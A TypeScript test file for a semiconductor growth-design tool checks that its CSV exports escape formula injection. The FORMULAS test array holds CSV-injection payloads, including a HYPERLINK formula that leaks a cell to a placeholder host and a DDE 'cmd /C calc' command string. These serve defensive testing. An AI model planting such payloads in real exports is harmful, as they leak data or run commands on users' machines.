/**
 * CSV exports cannot inject spreadsheet formulas: a text cell that starts with '=', '+', '-', '@',
 * a tab or NUL is escaped with a leading single quote (OWASP ASVS 5.0 requirement 1.2.10, seen; a
 * leading carriage return the same, common practice), in the growth sheet and in the campaign's
 * designs CSV; numbers, negative ones included, are written as numbers.
 */
import { describe, expect, it } from 'vitest';
import { designsCsv } from '../../engine/campaign/export.js';
import { growthSheet } from '../../engine/report/growth.js';
import { growthCsv } from '../../engine/report/growth-csv.js';
import { parseSpecText } from '../../engine/input/load.js';
import { RunStore } from '../../engine/store/store.js';
import { buildStructure, nominalVariables } from '../../engine/structure.js';
import { tempDir } from './helpers.js';

const FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+cmd', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\tT', '\rR'];

/** Cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes doubled). */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { rows[rows.length - 1]!.push(cell); cell = ''; }
    else if (c === '\n') { rows[rows.length - 1]!.push(cell); cell = ''; rows.push([]); }
    else cell += c;
  }
  return rows.filter((r) => r.length > 0);
}

describe('spreadsheet formulas in CSV exports', () => {
  it('growth sheet: layer labels that look like formulas are written as text', () => {
    const spec = parseSpecText([
      'substrate: GaAs',
      'stack:',
      ...FORMULAS.map((f) => `  - { material: GaAs, thickness: 5 nm, label: ${JSON.stringify(f)} }`),
    ].join('\n')).spec;
    const csv = cells(growthCsv(growthSheet(buildStructure(spec, nominalVariables(spec)), { GaAs: '1.0 µm/h' })));
    expect(csv.slice(1, 1 + FORMULAS.length).map((r) => r[1])).toEqual(FORMULAS.map((f) => `'${f}`));
    // Hand value: 5 nm at 1.0 µm/h = 1000 nm / 3600 s takes 18 s; a number, not text.
    expect(csv.slice(1, 1 + FORMULAS.length).map((r) => Number(r[8]))).toEqual(FORMULAS.map(() => 18));
  });

  it('designs CSV: job names that look like formulas are text, negative values stay numbers', () => {
    const store = RunStore.open(tempDir('csv'));
    try {
      store.enqueue(FORMULAS.map((name, index) => ({ name, index, kind: 'design', hash: `h${index}`, spec: {}, options: {}, seed: 1 })));
      for (const name of FORMULAS) {
        store.markRunning(name);
        const result = { parameterSet: 'test' } as never;
        store.finishJob(name, { status: 'infeasible', message: '', designs: [{ rank: 1, loss: 0.5, satisfied: false, start: 0, values: { w: -3.25 }, result }] as never, seed: 1, starts: 1, evaluations: 1, failures: 0 });
      }
      const csv = cells(designsCsv(store));
      expect(csv[0]).toEqual(['job_index', 'job', 'rank', 'loss', 'satisfied', 'w', 'start', 'job_status', 'spec_hash']);
      expect(csv.slice(1).map((r) => r[1])).toEqual(FORMULAS.map((f) => `'${f}`));
      expect(csv.slice(1).map((r) => r[7])).toEqual(FORMULAS.map(() => 'infeasible'));
      expect(csv.slice(1).map((r) => r[5])).toEqual(FORMULAS.map(() => '-3.25'));
    } finally {
      store.close();
    }
  });
});
